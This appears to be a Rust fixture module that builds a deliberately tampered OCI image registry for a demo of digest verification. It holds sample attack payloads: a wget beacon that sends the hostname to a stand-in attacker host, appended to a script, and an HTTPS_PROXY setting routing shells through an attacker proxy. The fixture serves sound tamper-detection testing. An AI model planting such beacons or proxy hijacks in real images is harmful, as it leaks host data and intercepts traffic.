//! `strata/tampered`: an index whose registry serves altered bytes, the one place in the
//! demo where bytes do not match their digests, on purpose. [`TAMPERED`] names every
//! altered part; everything else in the image is stored honestly.

use crate::error::{Context as _, Result};
use serde_json::json;

use super::layers::{Entry, gzip};
use super::platforms::{AMD64, ARM_V7, ARM64_V8, Platform};
use super::release::{Build, Release, platform_index};
use super::{Blob, Blobs, OCI_LAYER_GZIP, TAMPERED_REPOSITORY, descriptor, json_bytes};

pub(super) const TAG: &str = "latest";
pub(super) const DESCRIPTION: &str = "A registry serving altered bytes: the linux/arm64/v8 \
    manifest was edited after the index was written, the linux/arm/v7 config gained an \
    environment variable, and a linux/amd64 layer had a file changed. Each shows mismatch (the \
    layer in its files view), the index and every untouched document verify, and nothing below \
    the altered manifest is fetched.";

/// What was altered after its digest was written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Part {
    /// The platform manifest: a layer appended to it.
    Manifest,
    /// The image config: an environment variable added.
    Config,
    /// The application layer: a line added to `/usr/local/bin/greet`.
    AppLayer,
}

/// Every altered part, by platform: the only blobs of the layout (besides signed schema 1
/// manifests, named after their payload) that do not hash to their names.
pub(super) const TAMPERED: [(&str, Part); 3] = [
    ("linux/arm64/v8", Part::Manifest),
    ("linux/arm/v7", Part::Config),
    ("linux/amd64", Part::AppLayer),
];

const PLATFORMS: [Platform; 3] = [AMD64, ARM64_V8, ARM_V7];
const PROXY_ENV: &str = "HTTPS_PROXY=http://proxy.attacker.invalid:3128";
const BEACON: &str =
    "wget -q -O /dev/null \"http://collector.attacker.invalid/?host=$(hostname)\" || true\n";

const RELEASE: Release = Release {
    repository: TAMPERED_REPOSITORY,
    version: "1.2",
    revision: "c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3",
    created: "2026-03-02T16:40:00Z",
    greeting: "hello",
    notes: "Release notes: the 1.2 release.",
    platform: AMD64,
};

/// The index, written before any tampering: it names the honest digests.
pub(super) fn build(blobs: &mut Blobs) -> Result<Blob> {
    platform_index(blobs, &RELEASE, &PLATFORMS, |blobs, release| {
        let build = release.build(blobs)?;
        let spec = release.platform.spec();
        for (_, part) in TAMPERED.iter().filter(|(tampered, _)| *tampered == spec) {
            tamper(blobs, release, &build, *part)?;
        }
        Ok(build.manifest)
    })
}

/// Replaces the stored bytes of one part of `build` with altered ones.
fn tamper(blobs: &mut Blobs, release: &Release, build: &Build, part: Part) -> Result<()> {
    match part {
        Part::Manifest => {
            let injected = blobs.put(gzip(&release.tar(&injected_entries())?)?);
            let mut manifest = build.manifest_json.clone();
            manifest["layers"]
                .as_array_mut()
                .context("a manifest has layers")?
                .push(descriptor(OCI_LAYER_GZIP, &injected));
            blobs.put_tampered(&build.manifest, json_bytes(&manifest)?);
        }
        Part::Config => {
            let mut config = build.config_json.clone();
            config["config"]["Env"]
                .as_array_mut()
                .context("a config has Env")?
                .push(json!(PROXY_ENV));
            blobs.put_tampered(&build.config, json_bytes(&config)?);
        }
        Part::AppLayer => {
            let entries: Vec<Entry> = release
                .app_entries()
                .into_iter()
                .map(|entry| match entry {
                    Entry::File("usr/local/bin/greet", mode, script) => {
                        Entry::File("usr/local/bin/greet", mode, script + BEACON)
                    }
                    other => other,
                })
                .collect();
            blobs.put_tampered(&build.app_layer, gzip(&release.tar(&entries)?)?);
        }
    }
    Ok(())
}

/// The layer appended to the altered manifest: every shell gets the attacker's proxy.
fn injected_entries() -> Vec<Entry> {
    vec![
        Entry::Dir("etc", 0o755),
        Entry::Dir("etc/profile.d", 0o755),
        Entry::File(
            "etc/profile.d/proxy.sh",
            0o644,
            format!("export {PROXY_ENV}\n"),
        ),
    ]
}
